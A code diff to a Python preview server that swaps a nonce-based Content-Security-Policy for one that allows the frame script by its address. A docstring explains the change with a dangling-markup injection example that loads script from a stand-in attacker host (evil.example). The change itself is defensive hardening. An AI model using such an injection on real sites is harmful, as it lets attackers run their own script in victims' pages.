@@ -36,6 +36,8 @@ STATIC = Path(__file__).parent / "static"
 _OWN = {"frame.js": "preview_frame.js", "quick.css": "preview_quick.css"}
 """The files of the frame itself, by their names below the token."""
 
+_FRAME = "/own/frame.js"
+
 _FONTS = ("font/", "application/font", "application/vnd.ms-fontobject")
 _PAGE = "text/html"
 
@@ -56,6 +58,8 @@ def create_preview_app(desk: Desk) -> Starlette:
                 return await run_in_threadpool(function, desk, request)
             except PostgenError as problem:
                 return _nothing(problem.message)
+            except OSError as error:  # a name that is too long, no room for the copy
+                return _nothing(reading.unusable(error).message)
 
         return endpoint
 
@@ -143,12 +147,10 @@ def _own(_desk: Desk, request: Request) -> Response:
 
 def _framed(desk: Desk, text: str, *, is_open: bool = False, status: int = 200) -> Response:
     """Return a page for the frame, with the script that keeps its place when it is loaded again."""
-    nonce = secrets.token_urlsafe(16)
-    source = html.escape(f"{desk.previews.prefix}/own/frame.js")
-    script = f'<script nonce="{nonce}" src="{source}"></script>'
+    script = f'<script src="{html.escape(desk.previews.prefix + _FRAME)}"></script>'
     content = f"{text}{script}".encode(errors="surrogateescape")
     response = _answer(content, f"{_PAGE}; charset=utf-8", status)
-    response.headers["Content-Security-Policy"] = policy(desk, nonce, is_open=is_open)
+    response.headers["Content-Security-Policy"] = policy(desk, is_open=is_open)
     return response
 
 
@@ -158,15 +160,20 @@ def _may_open(desk: Desk, request: Request) -> bool:
     return secrets.compare_digest(key.encode(), desk.previews.open_key.encode())
 
 
-def policy(desk: Desk, nonce: str, *, is_open: bool) -> str:
-    """Return the policy of a page in the frame: its own files, or, if open, all that it wants."""
+def policy(desk: Desk, *, is_open: bool) -> str:
+    """Return the policy of a page in the frame: its own files, or, if open, all that it wants.
+
+    The script of the frame is allowed by its address. A page cannot take that over, as it may take
+    a nonce with a tag that it leaves open: `<script src=//evil.example/x.js a=`.
+    """
     ancestors = " ".join(f"http://{host}" for host in security.allowed_hosts(desk.port))
     end = f"base-uri 'none'; form-action 'none'; frame-ancestors {ancestors}"
     if is_open:
         return f"sandbox allow-scripts; default-src * data: blob: 'unsafe-inline'; {end}"
     own = desk.preview_origin
     return (
-        f"sandbox allow-scripts; default-src 'none'; script-src 'nonce-{nonce}'; "
+        "sandbox allow-scripts; default-src 'none'; "
+        f"script-src {own}{desk.previews.prefix}{_FRAME}; "
         f"style-src {own} 'unsafe-inline'; img-src {own} data:; font-src {own} data:; "
         f"media-src {own}; {end}"
     )
